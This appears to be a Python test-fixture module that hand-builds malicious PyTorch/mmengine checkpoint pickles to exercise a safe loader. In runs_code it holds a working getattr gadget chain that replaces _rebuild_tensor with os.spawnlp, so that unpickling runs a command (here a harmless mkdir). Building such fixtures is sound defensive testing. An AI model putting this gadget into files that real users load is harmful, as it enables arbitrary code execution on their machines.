"""Pickles written by hand, like those of an attacker: they would run code or fill memory."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
from pathlib import Path

REBUILD = ("torch._utils", "_rebuild_tensor_v2")
BUFFER = ("mmengine.logging.history_buffer", "HistoryBuffer")
GETATTR = ("builtins", "getattr")


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value) if -(2**31) <= value < 2**31 else b"\x8a\x08" + struct.pack("<q", value)


def name(module: str, attribute: str) -> bytes:
    """The value of a global name."""
    return f"c{module}\n{attribute}\n".encode()


def row(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def mapping(*pairs: tuple[bytes, bytes]) -> bytes:
    return b"}" + b"".join(key + value + b"s" for key, value in pairs)


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + row(*arguments) + b"R"


def new(kind: bytes, *arguments: bytes) -> bytes:
    """An object that is made without a call of its ``__init__``."""
    return kind + row(*arguments) + b"\x81"


def built(instance: bytes, state: bytes) -> bytes:
    return instance + state + b"b"


def raw(value: str) -> bytes:
    """Bytes, as protocol 2 writes them."""
    return call(name("_codecs", "encode"), text(value), text("latin1"))


def dtype(kind: str, *state: bytes) -> bytes:
    ending = (number(3), text("<"), b"N", b"N", b"N", number(-1), number(-1), number(0))
    return built(call(name("numpy", "dtype"), text(kind), b"\x89", b"\x88"), row(*(state or ending)))


def array(kind: bytes, shape: tuple[int, ...], data: bytes, first: bytes = row(number(0))) -> bytes:
    empty = call(name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), first, raw("b"))
    return built(empty, row(number(1), row(*map(number, shape)), kind, b"\x89", data))


def buffer(**state: bytes) -> bytes:
    """A ``HistoryBuffer`` of two numbers, in which ``state`` replaces attributes."""
    numbers = array(dtype("f8"), (2,), raw("\0" * 16))
    given = {"max_length": number(9), "_log_history": numbers, "_count_history": numbers, **state}
    return built(new(name(*BUFFER)), mapping(*((text(key), value) for key, value in given.items())))


def logged(value: bytes) -> bytes:
    """The content of a run's checkpoint with a value in its message hub."""
    scalars = mapping((text("train/loss"), value))
    return mapping((text("state_dict"), b"}"), (text("message_hub"), mapping((text("log_scalars"), scalars))))


def write(path: Path, content: bytes, compression: int = zipfile.ZIP_STORED) -> Path:
    """Write an archive, as ``torch.save`` does, with a pickle of ``content``."""
    with zipfile.ZipFile(path, "w", compression) as archive:
        archive.writestr("archive/data.pkl", b"\x80\x02" + content + b".")
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/version", "3\n")
    return path


def write_tar(path: Path) -> Path:
    """Write a file in PyTorch's first format, whose reader unpickles before it looks for tensors."""
    with tarfile.open(path, "w") as archive:
        for entry in ("storages", "tensors", "pickle"):
            archive.addfile(tarfile.TarInfo(entry), io.BytesIO())
    return path


def runs_code(marker: Path) -> bytes:
    """Content that makes the folder ``marker``: by ``getattr`` it replaces a function that unpickling calls later."""
    get = name(*GETATTR)
    functions = call(get, name(*REBUILD), text("__globals__"))
    imports = call(get, call(get, get, text("__self__")), text("__import__"))
    taken = functions + b"q\x01" + text("_rebuild_tensor") + imports + b"s"
    module = call(name(*REBUILD), text("os"), b"N", b"N", b"N", b"\x89", b"N") + b"q\x02"
    replaced = b"h\x01" + text("_rebuild_tensor") + call(get, b"h\x02", text("spawnlp")) + b"s"
    # This calls spawnlp(P_WAIT, "mkdir", "mkdir", marker) in place of _rebuild_tensor(storage, offset, size, stride).
    made = call(name(*REBUILD), number(0), text("mkdir"), text("mkdir"), text(str(marker)), b"\x89", b"N")
    return mapping((text("a"), taken), (text("b"), module), (text("c"), replaced), (text("d"), made))
